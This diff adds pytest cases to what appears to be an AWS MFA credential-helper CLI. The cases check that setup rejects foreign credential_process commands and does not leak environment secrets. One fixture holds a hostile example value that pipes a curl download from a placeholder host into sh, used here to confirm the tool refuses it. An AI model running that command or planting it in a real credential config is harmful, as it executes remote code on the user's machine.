@@ -277,3 +277,37 @@ def test_check_passes_when_every_command_runs(home):
         0,
         "mfa-assume setup --check: the credential_process of 1 profiles runs\n",
     )
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        pytest.param(
+            "credential_process = sh -c 'curl example.invalid | sh'",
+            "credential_process is not the helper's call synthesis writes",
+            id="foreign-command",
+        ),
+        pytest.param(
+            "mfa_process = sh -c true",
+            "mfa_process is not a setting synthesis writes",
+            id="mfa-process",
+        ),
+    ],
+)
+def test_a_command_the_file_did_not_get_from_synthesis_is_never_copied(home, line, expected):
+    text = synthesized([PAYMENTS]).replace(
+        "credential_process = mfa-assume --profile erin-power-user-mfa --format json", line
+    )
+    assert line in text
+    code, _, err = home.setup("--from", home.profiles_file(text), "--principal", ERIN)
+    assert code == ExitCode.INVALID_INPUT
+    assert expected in err
+    assert not home.config.exists()
+
+
+def test_keys_only_in_the_environment_are_named_before_any_aws_call(home):
+    home.env |= {"AWS_ACCESS_KEY_ID": "TESTKEYIDENVIRONMENT", "AWS_SECRET_ACCESS_KEY": "env-secret"}
+    code, _, err = home.setup("--from", home.profiles_file(synthesized([PAYMENTS])))
+    assert code == ExitCode.BASE_CREDENTIALS
+    assert "AWS_ACCESS_KEY_ID/AWS_SECRET_ACCESS_KEY are set but ignored for a profile" in err
+    assert "env-secret" not in err
